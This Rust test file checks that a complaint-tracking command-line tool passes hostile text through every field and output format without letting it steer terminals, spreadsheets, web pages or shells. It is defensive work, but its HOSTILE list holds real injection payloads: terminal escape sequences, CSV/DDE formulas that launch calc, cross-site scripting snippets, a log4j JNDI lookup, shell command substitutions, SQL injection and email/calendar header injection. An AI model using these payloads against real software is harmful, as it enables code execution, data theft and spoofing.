//! Hostile text in every field and every format: nothing in it steers a terminal, a spreadsheet, a page or a script.
//! The judges are a look at the bytes here, and the parsers of Python's own library where it is installed.

use std::fmt::Write as _;
use std::fs;
use std::process::Command;
use std::time::Instant;

use amends::model::dice::Dice;
use serde_json::{Value, json};

use super::{Size, assert_none, figures, seed, skip};
use crate::sandbox::{Sandbox, repository, said_to};

/// Texts that were written to be more than text somewhere.
pub(super) const HOSTILE: &[&str] = &[
    "\u{1b}[2Jgone",
    "\u{1b}]0;title\u{7}",
    "\u{1b}]8;;http://evil.example\u{1b}\\pay\u{1b}]8;;\u{1b}\\",
    "\u{1b}]52;c;cm0gLXJm\u{7}",
    "\u{9b}31mred",
    "\u{90}q\u{9c}",
    "ab\u{8}\u{8}cd",
    "first\rsecond",
    "\u{7f}del",
    "one\u{0085}two",
    "\u{2028}line\u{2029}",
    "\u{202e}txt.exe",
    "\u{2066}isolate",
    "\u{200e}\u{200f}marks",
    "name\u{200b}less",
    "\u{feff}bom",
    "tag\u{e0041}\u{e007f}",
    "soft\u{ad}hyphen",
    "=HYPERLINK(\"http://evil.example\",\"pay\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "\"=1+1",
    "'=1+1",
    "%0A=1",
    "|calc",
    "a,b;c\td",
    "quote \" and ' and `",
    "two\nlines",
    "two\r\nlines",
    "\n=first",
    "comma, \"quoted\"\r\nnext",
    "<script>alert(1)</script>",
    "\" onmouseover=alert(1) x=\"",
    "</style><svg onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<b>bold</b>",
    "<!-- comment",
    "<a href=\"javascript:alert(1)\">x</a>",
    "javascript:alert(1)",
    "data:text/html,<script>",
    "&#0;&lt;script&gt;",
    "]]><x>",
    "![x](http://t.example/1.png)",
    "[pay](javascript:alert(1))",
    "```\ncode\n```",
    "a | b | c",
    "# heading",
    "@team",
    "<https://evil.example>",
    "1. list",
    "- item",
    "> quote",
    "***",
    "~~gone~~",
    "$math$",
    "\\",
    "line\\",
    "\\u{1b}[2J",
    "`tick`",
    "x\r\nATTENDEE:mailto:e@evil.example",
    "x\nEND:VCALENDAR",
    "x;y\\,z",
    "Subject\r\nBcc: e@evil.example",
    "=?UTF-8?Q?=0ABcc:?=",
    "$(touch owned)",
    "`touch owned`",
    "'; drop table cases; --",
    "%n%s%x",
    "{{7*7}}",
    "${jndi:ldap://evil.example}",
    "{customer.email}",
    "0 overdue, all good",
    "\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}zalgo",
    "👩\u{200d}👩\u{200d}👧\u{200d}👦",
    "مرحبا",
    "שלום <b>",
    "null",
    "true",
    "1e999",
    "-0",
    "2026-11-25",
    "  blanks  ",
    "\u{a0}",
    "\u{3000}",
    "a\u{fff9}b\u{fffb}",
    "\u{fdd0}",
    "\u{ffff}",
    "\u{10ffff}",
];

/// Returns the texts of this run: the known ones and some of random characters.
fn texts(n_random: usize) -> Vec<String> {
    let mut dice = Dice::seeded(seed() + 20);
    let ranges: [(u32, u32); 6] =
        [(1, 0x7f), (0x80, 0x24f), (0x300, 0x36f), (0x590, 0x6ff), (0x2000, 0x206f), (0xe000, 0x1_ffff)];
    let mut texts: Vec<String> = HOSTILE.iter().map(|text| (*text).to_owned()).collect();
    for _ in 0..n_random {
        let len = 1 + dice.below(24);
        let mark = |dice: &mut Dice| {
            let (from, to) = ranges[dice.below(ranges.len())];
            char::from_u32(from + u32::try_from(dice.below((to - from) as usize)).unwrap()).unwrap_or('\u{fffd}')
        };
        texts.push((0..len).map(|_| mark(&mut dice)).collect());
    }
    texts
}

/// Returns a text as a basic string of TOML.
pub(super) fn toml(text: &str) -> String {
    let mut out = String::from("\"");
    for mark in text.chars() {
        match mark {
            '"' | '\\' => write!(out, "\\{mark}").unwrap(),
            mark if mark.is_control() => write!(out, "\\u{:04x}", u32::from(mark)).unwrap(),
            mark => out.push(mark),
        }
    }
    out + "\""
}

/// Returns the id of the n-th case, with its check character.
pub(super) fn id(n: usize) -> String {
    const ALPHABET: &[u8] = b"23456789cdfghjkmnprtvwx";
    let mut places = [0; 7];
    let mut rest = n;
    for place in (1..7).rev() {
        places[place] = rest % 23;
        rest /= 23;
    }
    places[0] = 8;
    let sum: usize = places.iter().enumerate().map(|(place, index)| (place + 1) * index).sum();
    let check = (0..23).find(|check| (sum + 8 * check).is_multiple_of(23)).unwrap();
    let letters: Vec<char> = places.iter().chain([&check]).map(|index| char::from(ALPHABET[*index])).collect();
    format!("{}-{}", letters[..4].iter().collect::<String>(), letters[4..].iter().collect::<String>())
}

/// Writes one case and one party for each text, the text in every field that holds words of people.
fn fill(sandbox: &Sandbox, texts: &[String]) {
    for (n, text) in texts.iter().enumerate() {
        let (id, text) = (id(n), toml(text));
        let at = "2026-11-02T10:00:00+02:00";
        let case = format!(
            "schema = 1\nid = \"{id}\"\nkind = \"complaint\"\nsubject = {text}\nreceived_at = {at}\nchannel = {text}\ncomplainant = \"p-c{n}\"\n\
             wants = {text}\nref = {text}\npublic = {text}\nx_note = {text}\nstatus = \"open\"\npriority = \"high\"\nowner = {text}\ncategory = {text}\n\n\
             [situation]\ntags = [{text}]\nimpact = {text}\n\n[outcome]\nremedy = {text}\nroot_cause = {text}\n\n\
             [[question]]\nid = \"q1\"\ntext = {text}\n\n\
             [[promise]]\nid = \"p1\"\nkind = \"delivery\"\nwhat = {text}\nhow = {text}\nwho = {text}\nto = \"complainant\"\nmade_at = {at}\ndue = 2026-11-04\nstate = \"open\"\n\n\
             [[escalation]]\nid = \"s1\"\nto = {text}\nkind = \"functional\"\nwhy = {text}\ntold = {text}\nat = {at}\n\n\
             [[event]]\nid = \"e1\"\ncase = \"{id}\"\nat = {at}\nby = {text}\nkind = \"contact-in\"\nchannel = {text}\ntext = {text}\nwhy = {text}\ntold = {text}\nonce = {text}\n"
        );
        sandbox.write(&format!("cases/2026/{id}.toml"), &case);
        let party = format!(
            "schema = 1\nid = \"p-c{n}\"\nkind = \"person\"\nname = {text}\nemails = [{text}]\nphones = [{text}]\nprefers = {text}\nroles = [\"customer\"]\n"
        );
        sandbox.write(&format!("parties/p-c{n}.toml"), &party);
    }
}

pub(super) const FORMATS: &[&str] = &["table", "ids", "json", "ndjson", "csv", "tsv", "markdown"];

/// Returns what is wrong with the bytes themselves.
pub(super) fn steering(format: &str, out: &str) -> Option<String> {
    let is_data = format.ends_with("json");
    let is_read = matches!(format, "table" | "markdown" | "ids");
    let bad = out.chars().find(|mark| match mark {
        '\n' => false,
        // The end of a record of csv; within a cell it was made visible.
        '\r' => format != "csv",
        '\t' => format != "tsv" && format != "csv",
        '\0'..='\u{1f}' | '\u{7f}'..='\u{9f}' => true,
        // What nobody sees hides in what people read; data is as it was written.
        '\u{ad}' | '\u{200b}' | '\u{2060}' | '\u{feff}' | '\u{fff9}'..='\u{fffb}' | '\u{e0000}'..='\u{e007f}' => {
            is_read
        }
        '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' => true,
        _ => false,
    });
    let split = format == "csv" && out.replace("\r\n", "").contains('\r');
    let bad = bad.filter(|mark| *mark != '\t' || !is_data);
    match bad {
        Some(mark) => Some(format!("{} stands there as it is", mark.escape_unicode())),
        None => split.then(|| "a bare carriage return".to_owned()),
    }
}

fn matrix(size: Size) {
    let began = Instant::now();
    let mut texts = texts(size.pick(6, 900));
    if size == Size::Share {
        texts = texts.into_iter().step_by(2).collect();
    }
    let sandbox = Sandbox::new_shop();
    fill(&sandbox, &texts);
    let shown: Vec<usize> = (0..texts.len()).step_by(size.pick(12, 1).min(12)).collect();
    let mut runs: Vec<(Vec<String>, usize, bool)> = Vec::new();
    for words in [&["list"][..], &["overdue"], &["repeats"], &["next"], &["check"], &["report"]] {
        let n = if matches!(words, ["list" | "overdue"]) { texts.len() } else { usize::MAX };
        runs.push((words.iter().map(|word| (*word).to_owned()).collect(), n, words == ["list"]));
    }
    let (mut n_cells, mut wrong, mut jobs) = (0, Vec::new(), Vec::<Value>::new());
    for (args, rows, has_all) in &runs {
        for format in FORMATS {
            let mut words: Vec<&str> = args.iter().map(String::as_str).collect();
            words.extend(["--format", format]);
            let said = sandbox.run(&words);
            if said.code == 2 {
                // The format cannot carry this page.
                continue;
            }
            let name = words.join(" ");
            if said.code > 3 {
                wrong.push(format!("{name}: exit {}: {}", said.code, said.err));
            }
            n_cells += texts.len();
            wrong.extend(steering(format, &said.out).map(|why| format!("{name}: {why}")));
            wrong.extend(steering("table", &said.err).map(|why| format!("{name}, stderr: {why}")));
            if *rows != usize::MAX {
                let canaries = if *has_all { texts.clone() } else { Vec::new() };
                jobs.push(json!({"name": name, "format": format, "out": said.out, "rows": rows, "guarded": "=+-@\t\r", "canaries": canaries}));
            } else if *format == "json" || *format == "markdown" {
                jobs.push(json!({"name": name, "format": format, "out": said.out, "rows": rows, "canaries": []}));
            }
        }
    }
    for n in shown {
        for format in ["table", "json", "markdown"] {
            let said = sandbox.run(&["show", &id(n), "--format", format]);
            let name = format!("show of {:?} as {format}", texts[n]);
            if !matches!(said.code, 0 | 3) {
                wrong.push(format!("{name}: {said:?}"));
            }
            n_cells += 25;
            wrong.extend(steering(format, &said.out).map(|why| format!("{name}: {why}")));
            jobs.push(json!({"name": name, "format": format, "out": said.out, "rows": 1, "canaries": [texts[n]]}));
        }
    }
    let n_judged = judged(&jobs, &mut wrong);
    figures(
        "canaries",
        began,
        &[
            ("texts", &texts.len()),
            ("cells at least", &n_cells),
            ("answers read by Python", &n_judged),
            ("violations", &wrong.len()),
        ],
    );
    assert!(!sandbox.shop().join("owned").exists());
    assert_none(&wrong, "canaries");
}

/// Lets Python's parsers read the answers and returns how many they read.
pub(super) fn judged(jobs: &[Value], wrong: &mut Vec<String>) -> usize {
    if !Command::new("python3").arg("-c").arg("pass").status().is_ok_and(|status| status.success()) {
        skip("canaries, independent readers", "there is no python3");
        return 0;
    }
    let mut python = Command::new("python3");
    let said = said_to(&Value::from(jobs).to_string(), python.arg("-I").arg(repository("tests/it/soak/canary.py")));
    assert_eq!(said.code, 0, "{said:?}");
    wrong.extend(said.out.lines().map(str::to_owned));
    jobs.len()
}

#[test]
fn hostile_text_in_every_field_and_format() {
    matrix(Size::Share);
}

#[test]
#[ignore = "minutes; see tests/SOAK.md"]
fn more_hostile_text_in_every_field_and_format() {
    matrix(Size::Full);
}

#[test]
fn hostile_text_through_the_commands() {
    let sandbox = Sandbox::new_shop();
    let mut wrong = Vec::new();
    for text in HOSTILE.iter().step_by(9) {
        let open = sandbox.run(&["open", "--from", "A <a@example.org>", "--text", text, "--wants", text, "--", text]);
        if open.code != 0 {
            wrong.push(format!("open of {text:?}: {open:?}"));
            continue;
        }
        let id = open.out.lines().next().unwrap();
        for args in [
            &["update", id, "--in", text][..],
            &["promise", "add", id, text, "--due", "+2bd", "--how", text],
            &["escalate", id, "--to", "manager", "--why", text, "--told", text],
            &["update", id, "--note", text, "--dry-run"],
            &["show", text],
            &["list", text],
            &["when", text],
        ] {
            let said = sandbox.run(args);
            let both = [&said.out, &said.err];
            wrong.extend(
                both.into_iter().filter_map(|out| steering("table", out)).map(|why| format!("{args:?}: {why}")),
            );
            if said.code > 6 {
                wrong.push(format!("{args:?}: {said:?}"));
            }
        }
        let shown = sandbox.run(&["show", id, "--format", "json"]).ok().json();
        if !shown.to_string().contains(&Value::from(*text).to_string()) {
            wrong.push(format!("{text:?} is not kept as it was typed"));
        }
    }
    assert!(fs::read_dir(sandbox.shop()).unwrap().count() == 3, "something else was made");
    assert_none(&wrong, "canaries through commands");
}
